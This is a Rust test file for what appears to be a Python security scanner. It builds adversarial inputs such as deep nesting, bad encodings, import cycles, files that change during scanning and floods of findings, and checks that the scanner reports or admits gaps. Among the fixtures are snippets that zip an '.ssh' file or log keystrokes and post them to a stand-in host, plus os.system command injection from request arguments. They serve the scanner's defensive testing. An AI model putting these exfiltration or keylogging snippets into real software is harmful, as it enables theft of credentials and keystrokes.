//! Code that is written to break whoever judges it: it is judged, or said not to be, and never passes unseen.

use std::fmt::Write as _;
use std::sync::atomic::{AtomicBool, Ordering};

use crate::room::Room;

/// Source code that nests or repeats without measure.
fn shapes() -> Vec<(&'static str, String)> {
    let n = 100_000;
    let pairs = |open: &str, inside: &str, close: &str| format!("x = {}{inside}{}\n", open.repeat(n), close.repeat(n));
    let mut blocks = String::new();
    for depth in 0..2_000 {
        let _ = writeln!(blocks, "{}if x:", " ".repeat(depth));
    }
    // Everything that is sent may have come through everything that was opened.
    let mut writers = "import requests, zipfile\nkey = '.ssh/x'\n".to_owned();
    for n in 0..1_000 {
        let _ = writeln!(
            writers,
            "z{n} = zipfile.ZipFile(b, 'w')\nz{n}.write(c)\nrequests.post('https://x.example', data=b)"
        );
    }
    // Every text is put together from a thousand others, each of which is put together from a thousand others.
    let mut riddles = "e0 = ''.join([''[::-1]])\n".to_owned();
    for n in 0..4 {
        let _ = writeln!(riddles, "e{} = ''.join([{}])", n + 1, format!("e{n}, ").repeat(1_000));
    }
    riddles += "exec(e4)\n";
    // The same long command, script and guide for every call.
    let mut repeated = format!("c = 'x; ' * 6000\ng = 'CLAUDE.md {}'\n", "You read it. ".repeat(1_000));
    for _ in 0..3_000 {
        repeated += "os.system(c)\nexec(c)\nf.write(g)\n";
    }
    let mut different = "c = 'x = eval(y); ' * 3000\n".to_owned();
    for n in 0..2_000 {
        let _ = writeln!(different, "exec(c + '{n}')");
    }
    // Everybody listens to keys, and everything that is heard is sent everywhere.
    let mut listeners =
        "import requests\nfrom pynput import keyboard\nb = []\ndef heard(k):\n    b.append(k)\n".to_owned();
    for _ in 0..1_000 {
        listeners += "keyboard.Listener(on_press=heard)\nrequests.post('https://x.example', data=b)\n";
    }
    vec![
        ("writers", writers),
        ("listeners", listeners),
        ("riddles", riddles),
        ("repeated texts", repeated),
        ("different texts", different),
        ("parentheses", pairs("(", "1", ")")),
        ("lists", pairs("[", "1", "]")),
        ("dictionaries", pairs("{1:", "1", "}")),
        ("calls", pairs("f(", "1", ")")),
        ("lambdas", pairs("lambda: ", "1", "")),
        ("conditions", pairs("1 if x else ", "1", "")),
        ("negations", pairs("not ", "1", "")),
        ("awaits", format!("async def f():\n    return {}x\n", "await ".repeat(n))),
        ("attributes", format!("x = a{}\n", ".a".repeat(n))),
        ("subscripts", format!("x = a{}\n", "[0]".repeat(n))),
        ("called calls", format!("x = a{}\n", "()".repeat(n))),
        ("sums", format!("x = 'a'{}\n", " + 'a'".repeat(n))),
        ("powers", format!("x = 2{}\n", " ** 2".repeat(n))),
        ("formats", format!("x = 'a'{}\n", " % y".repeat(n))),
        ("comparisons", format!("x = a{}\n", " < a".repeat(n))),
        ("ands", format!("x = a{}\n", " and a".repeat(n))),
        ("assignments", format!("{}1\n", "x = ".repeat(n))),
        ("branches", format!("if x:\n    pass\n{}", "elif x:\n    pass\n".repeat(n))),
        ("decorators", format!("{}def f(): pass\n", "@a\n".repeat(n))),
        ("arguments", format!("f({})\n", "x, ".repeat(n))),
        ("names", format!("global {}x\n", "x, ".repeat(n))),
        ("imports", format!("from a import ({})\n", "x, ".repeat(n))),
        ("blocks", blocks),
        ("long line", format!("x = [{}]\n", "eval(y), ".repeat(n))),
        ("long name", format!("{} = 1\n", "x".repeat(5_000_000))),
        ("long string", format!("x = '{}'\n", "\u{1d4b3}".repeat(1_000_000))),
        ("long comment", format!("x = 1  # nosec {}\n", "B602, ".repeat(n))),
        ("continued", format!("x = 1 + \\\n{}1\n", "1 + \\\n".repeat(n))),
        ("f-strings", format!("x = {}1{}\n", "f\"{".repeat(200), "}\"".repeat(200))),
        ("unclosed", format!("x = '''{}", "\n".repeat(n))),
        ("dedents", "if x:\n        a\n    b\n  c\n".repeat(1_000)),
    ]
}

#[test]
fn shapes_without_measure_are_judged_or_said_not_to_be() {
    let room = Room::new();
    for (name, text) in shapes() {
        room.write("shape.py", format!("import os\nos.system('a' + b)\n{text}"));
        let ran = room.run(&["security-eval", "shape.py", "-f", "json", "--max-runtime", "100s"]);
        let envelope = ran.envelope();
        // What was read has the finding; what was not is a gap. Neither is a pass, and nothing is a bug.
        assert!(matches!(ran.code, 1 | 3), "{name}: {} {}", ran.code, ran.stderr);
        assert!(ran.code == 1 || envelope["stats"]["judged"] == 0, "{name}");
        if matches!(name, "riddles" | "different texts") {
            assert_eq!(envelope["complete"], false, "{name} asks for more than is looked at, which is said");
        }
    }
}

#[test]
fn modules_that_import_each_other_and_types_that_hold_themselves_come_to_an_end() {
    let room = Room::new();
    let ring = 40;
    for number in 0..ring {
        let next = (number + 1) % ring;
        room.write(
            &format!("ring/m{number}.py"),
            format!(
                "from ring.m{next} import *\nfrom ring import m{next}\nimport ring.m{number} as me\n\n\n\
                 class A{number}(m{next}.A{next}):\n    me: 'A{number}'\n\n    def go(self, x):\n        self.me = self\n        \
                 return m{next}.A{next}().go(self.me.me.me.go(x))\n\n\ndef f{number}(x):\n    x = [x, f{number}]\n    x.append(x)\n    \
                 return m{next}.f{next}(f{number}(x))\n"
            ),
        );
    }
    room.write("ring/__init__.py", "from ring.m0 import *\nfrom . import *\n");
    room.write(
        "app.py",
        "import os\nfrom flask import request\nfrom ring.m0 import A0, f0\n\n\nclass Node:\n    def __init__(self):\n        \
         self.next = self\n        self.all = {'me': self.__dict__}\n\n\nx = Node()\nx.next.next.next = x\nx.all['x'] = x.all\n\
         T = list['T']\nos.system(A0().go(f0(request.args['x'])))\nos.system('a' + request.args['y'])\n",
    );
    let ran = room.run(&["security-eval", ".", "-f", "json", "--max-runtime", "100s"]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert_eq!(ran.envelope()["complete"], true, "{}", ran.stdout);
}

#[test]
fn files_that_change_while_they_are_judged_break_nothing() {
    let room = Room::new();
    for number in 0..60 {
        room.write(&format!("p/m{number}.py"), "import os\nfrom p import m0\nos.system('a' + m0.x)\n");
    }
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let mut turn = 0_usize;
            while !done.load(Ordering::Relaxed) {
                let path = room.path(&format!("p/m{}.py", turn % 60));
                match turn % 5 {
                    0 => drop(std::fs::write(&path, "x = ".repeat(turn % 1_000))),
                    1 => drop(std::fs::remove_file(&path)),
                    2 => drop(std::fs::write(&path, [0xff, 0, 0xfe])),
                    3 => drop(std::fs::create_dir(&path)),
                    _ => {
                        let _ = std::fs::remove_dir(&path);
                        let _ = std::fs::write(&path, "import os\nos.system('a' + b)\n");
                    }
                }
                turn += 7;
            }
        });
        for _ in 0..6 {
            let ran = room.run(&["--state", "state", "security-eval", "p", "-f", "json", "--max-runtime", "60s"]);
            assert!(matches!(ran.code, 0 | 1 | 3), "{} {}", ran.code, ran.stderr);
            assert!(!ran.stderr.contains("internal-error"), "{}", ran.stderr);
        }
        done.store(true, Ordering::Relaxed);
    });
}

#[test]
fn bytes_that_are_no_text_are_said_not_to_be() {
    let room = Room::new();
    let cases: &[(&str, &[u8])] = &[
        ("utf7.py", b"# coding: utf-7\nx = 1\n"),
        ("rot13.py", b"# coding: rot13\nvzcbeg bf\n"),
        ("lie.py", b"# coding: ascii\nx = '\xff'\n"),
        ("half.py", b"\xff\xfex\0=\0\x31"),
        ("surrogate.py", b"x = '\xed\xa0\x80'\n"),
        ("overlong.py", b"\xc0\xafx = 1\n"),
        ("big5.py", b"# coding: big5\n\xff\xff\n"),
    ];
    for (name, bytes) in cases {
        room.write(name, bytes);
        let ran = room.run(&["security-eval", name]);
        assert_eq!(ran.code, 3, "{name}: {} {}", ran.stdout, ran.stderr);
        assert!(ran.stderr.contains(name), "{name}: {}", ran.stderr);
        std::fs::remove_file(room.path(name)).expect("it goes");
    }
}

#[test]
fn a_file_of_nothing_but_findings_is_cut_and_still_gates() {
    let room = Room::new();
    let mild = "x = tempfile.mktemp()\n".repeat(12_000);
    room.write("flood.py", format!("import os, tempfile\n{mild}os.system('a' + b)\n"));
    let ran = room.run(&["security-eval", "flood.py", "-f", "json"]);
    let envelope = ran.envelope();
    // The worst finding comes last in the file, and first in what is kept.
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert_eq!(envelope["data"]["findings"].as_array().map(Vec::len), Some(10_000));
    assert_eq!(envelope["stats"]["skipped"][0]["reason"], "limit-reached");
}
